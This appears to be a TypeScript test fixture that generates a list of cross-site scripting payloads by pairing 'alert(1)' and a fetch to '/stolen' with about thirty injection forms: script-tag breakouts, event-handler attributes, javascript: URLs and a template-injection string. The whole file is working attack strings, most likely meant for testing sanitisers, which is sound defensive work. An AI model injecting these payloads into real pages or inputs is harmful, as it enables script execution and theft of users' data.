/** What people put into a name or a letter so that a browser runs it. Each calls `alert` or asks for `/stolen`. */
const ACTS = ['alert(1)', 'fetch(`/stolen`)'];

const FORMS = [
  (act: string) => `<script>${act}</script>`,
  (act: string) => `<ScRiPt >${act}</sCrIpT>`,
  (act: string) => `</title><script>${act}</script>`,
  (act: string) => `</textarea><script>${act}</script>`,
  (act: string) => `--><script>${act}</script>`,
  (act: string) => `]]><script>${act}</script>`,
  (act: string) => `"><script>${act}</script>`,
  (act: string) => `'><script>${act}</script>`,
  (act: string) => `<img src=x onerror=${act}>`,
  (act: string) => `"><img src=x onerror="${act}">`,
  (act: string) => `<img src="/stolen" onload=${act}>`,
  (act: string) => `<svg onload=${act}>`,
  (act: string) => `<svg><script>${act}</script></svg>`,
  (act: string) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act: string) => `<body onload=${act}>`,
  (act: string) => `<iframe src="javascript:${act}"></iframe>`,
  (act: string) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act: string) => `<object data="javascript:${act}"></object>`,
  (act: string) => `<embed src="javascript:${act}">`,
  (act: string) => `<a href="javascript:${act}">press</a>`,
  (act: string) => `<input autofocus onfocus=${act}>`,
  (act: string) => `<details open ontoggle=${act}>`,
  (act: string) => `<video><source onerror=${act}></video>`,
  (act: string) => `<audio src=x onerror=${act}>`,
  (act: string) => `<marquee onstart=${act}>`,
  (act: string) => `<math><mtext><img src=x onerror=${act}></mtext></math>`,
  (act: string) => `<form action="javascript:${act}"><button>press</button></form>`,
  (act: string) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (act: string) => `" onmouseover="${act}" x="`,
  (act: string) => `<%= ${act} %>{{constructor.constructor('${act}')()}}`,
];

export const scripts: readonly string[] = FORMS.flatMap((form) => ACTS.map(form));
